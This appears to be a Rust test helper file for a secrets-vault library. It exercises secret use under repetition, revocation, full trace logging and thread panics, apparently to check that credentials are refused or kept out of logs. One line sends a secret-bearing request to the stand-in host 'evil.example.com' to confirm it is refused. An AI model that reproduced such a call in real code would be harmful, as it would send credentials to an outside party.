//! Processes that use a secret: many times, while another revokes it, and while everything is logged and a thread panics.

use std::fmt::{self, Write as _};

use aios_core::engine::vault::{Answer, Fetch, SecretUse};
use aios_core::facade::guard;
use aios_core::vault::Outgoing;
use aios_core::{Aios, Permit, Refusal};
use tracing::field::{Field, Visit};
use tracing::span::{Attributes, Id, Record};
use tracing::{Event, Metadata, Subscriber};

use crate::{Done, Job};

/// Uses the secret so often, by a client that lives long. `used` for each time, `limited CODE RETRY_AT` for each refusal.
pub(crate) fn many(job: &Job, name: &str, count: usize) -> Done<()> {
    let (mut log, aios) = (job.log(name)?, job.open("sqlite:aios.db")?);
    let client = client(job, &aios)?;
    job.await_go();
    for _ in 0..count {
        match client.fetch(asked(job)) {
            Ok(_) => log.line("used")?,
            Err(refusal) if refusal.code().status() == 429 => log.line(&limited(&refusal))?,
            Err(refusal) => return log.refused(&refusal),
        }
    }
    Ok(aios.close()?)
}

/// Uses it once by an open permit and once by a client that lives long, says so, waits for `FOLDER/late`, and does it again
/// with the same handles: `permit WORD`, `client WORD`, and what asking the permit anew gives: `anew WORD`.
pub(crate) fn holds(job: &Job, name: &str) -> Done<()> {
    let (mut log, aios) = (job.log(name)?, job.open("sqlite:aios.db")?);
    let (permit, client) = (aios.authorize(&job.request())?, client(job, &aios)?);
    let credential = permit.credential("prod/key")?;
    // Held: their answers are still under way.
    let held = [credential.fetch(asked(job))?, client.fetch(asked(job))?];
    log.line("ready")?;
    job.wait_for("late");
    log.line(&format!("permit {}", word(credential.fetch(asked(job)))))?;
    log.line(&format!("client {}", word(client.fetch(asked(job)))))?;
    let anew = permit.credential("prod/key").and_then(|anew| anew.fetch(asked(job)));
    log.line(&format!("anew {}", word(anew)))?;
    drop(held);
    job.wait_for("never");
    Ok(())
}

/// Uses it while whatever any library logs, at every level, goes to standard error; then threads that use it panic.
pub(crate) fn traces(job: &Job, name: &str) -> Done<()> {
    log::set_logger(&Everything).map_err(|_| "somebody logs already")?;
    log::set_max_level(log::LevelFilter::Trace);
    tracing::subscriber::set_global_default(Everything)?;
    let (mut log, aios) = (job.log(name)?, job.open("sqlite:aios.db")?);
    let (permit, client) = (aios.authorize(&job.request())?, client(job, &aios)?);
    let credential = permit.credential("prod/key")?;
    let answer = credential.fetch(asked(job))?;
    while answer.next()?.is_some() {}
    let refused = client.fetch(Fetch { outgoing: outgoing("https://evil.example.com/"), ..asked(job) });
    let (held, again) = (credential.fetch(asked(job))?, client.clone());
    let thread = std::thread::spawn(move || panics(&permit, &again, &held));
    log.line(&format!("thread {}", thread.join().is_err()))?;
    let caught = guard::<Answer>(|| panics_over(&credential, &refused));
    log.line(&format!(
        "caught {}",
        caught.is_err_and(|refusal| refusal.code() == aios_core::Code::Internal)
    ))?;
    Ok(aios.close()?)
}

#[expect(clippy::panic, reason = "what a panic shows is the question")]
fn panics(permit: &Permit, client: &SecretUse, held: &Answer) {
    panic!("in a thread that uses a secret: {permit:?} {client:?} {held:?} {:?}", held.headers());
}

#[expect(clippy::panic, reason = "what a panic shows is the question")]
fn panics_over(credential: &SecretUse, refused: &Result<Answer, Refusal>) -> Result<Answer, Refusal> {
    panic!("inside the library: {credential:?} {refused:?}");
}

fn client(job: &Job, aios: &Aios) -> Done<SecretUse> {
    Ok(aios.vault().client(job.request().who, &"secret://acme/prod/key".parse()?)?)
}

fn asked(job: &Job) -> Fetch {
    let url = job.url.as_deref().unwrap_or_default();
    Fetch { outgoing: outgoing(url), body: b"{}".to_vec(), patience: None }
}

fn outgoing(url: &str) -> Outgoing {
    Outgoing { method: "POST".into(), url: url.into(), headers: Vec::new() }
}

fn word(answer: Result<Answer, Refusal>) -> String {
    answer.map_or_else(|refusal| refusal.code().to_string(), |answer| answer.status().to_string())
}

fn limited(refusal: &Refusal) -> String {
    let when = refusal.detail().retry_at.map_or(0, aios_core::model::Timestamp::seconds);
    format!("limited {} {when}", refusal.code())
}

/// Writes what is logged to standard error, with every field.
struct Everything;

impl log::Log for Everything {
    fn enabled(&self, _: &log::Metadata<'_>) -> bool {
        true
    }

    fn log(&self, record: &log::Record<'_>) {
        written(&format!("log {} {} {}", record.level(), record.target(), record.args()));
    }

    fn flush(&self) {}
}

impl Subscriber for Everything {
    fn enabled(&self, _: &Metadata<'_>) -> bool {
        true
    }

    fn new_span(&self, span: &Attributes<'_>) -> Id {
        let mut fields = Fields(String::new());
        span.record(&mut fields);
        written(&format!("span {} {}", span.metadata().name(), fields.0));
        Id::from_u64(1)
    }

    fn record(&self, _: &Id, values: &Record<'_>) {
        let mut fields = Fields(String::new());
        values.record(&mut fields);
        written(&format!("record {}", fields.0));
    }

    fn record_follows_from(&self, _: &Id, _: &Id) {}

    fn event(&self, event: &Event<'_>) {
        let mut fields = Fields(String::new());
        event.record(&mut fields);
        written(&format!("event {} {}", event.metadata().target(), fields.0));
    }

    fn enter(&self, _: &Id) {}

    fn exit(&self, _: &Id) {}
}

struct Fields(String);

impl Visit for Fields {
    fn record_debug(&mut self, field: &Field, value: &dyn fmt::Debug) {
        // Text takes whatever is written to it.
        let _ = write!(self.0, "{}={value:?} ", field.name());
    }
}

fn written(line: &str) {
    use std::io::Write as _;
    // Whoever collects it may be gone.
    let _ = writeln!(std::io::stderr(), "{line}");
}
